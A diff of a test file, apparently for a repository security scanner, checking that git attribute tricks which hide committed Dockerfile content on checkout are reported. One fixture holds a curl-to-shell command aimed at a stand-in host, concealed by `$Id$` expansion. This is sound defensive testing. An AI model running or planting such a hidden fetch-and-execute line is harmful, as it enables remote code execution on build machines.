@@ -78,20 +78,18 @@ describe.each(scanners)('%s', (scanner) => {
     ['an encoding', 'working-tree-encoding=UTF-7', insecure],
     ['`$Id$`', 'ident', `FROM scratch\nRUN true $Id:;curl\t-k\texample.org|sh;#$\n`],
   ])('sees a text that the commit has and the checkout hides by %s', async (_, attribute, text) => {
-    const id = (): string => repository.git('rev-parse', 'HEAD');
-    repository.put('Dockerfile', text);
-    repository.git('add', '-A');
-    repository.commit({ '.gitattributes': `Dockerfile ${attribute}\n.gitattributes working-tree-encoding=UTF-7\n` });
-    const head = id();
-    for (const file of ['Dockerfile', '.gitattributes']) rmSync(join(repository.path, file));
+    repository.commit({ Dockerfile: text });
+    repository.put('.gitattributes', `Dockerfile ${attribute}\n`);
+    // Only this file: git would take the other anew, by its attributes.
+    repository.git('add', '.gitattributes');
+    repository.git('commit', '-q', '-m', 'attributes');
+    const head = repository.git('rev-parse', 'HEAD');
+    rmSync(join(repository.path, 'Dockerfile'));
     repository.git('checkout', '-q', '--', '.');
     expect(readFileSync(join(repository.path, 'Dockerfile'), 'utf8')).not.toBe(text);
     const run = await runAction(scanner, { workspace: repository.path, environment: pullRequest(head), inputs: { 'fail-on': 'none' } });
     // It holds another text, or git itself has compared it once more and calls it edited.
-    expect([run.exitCode, run.stdout]).toEqual([
-      2,
-      expect.stringContaining('::error file=Dockerfile::Not looked at: the commit h'),
-    ]);
+    expect([run.exitCode, run.stdout]).toEqual([2, expect.stringContaining('::error file=Dockerfile::Not looked at: the commit h')]);
   });
 
   test('a person’s unfinished edits are no gap', async () => {
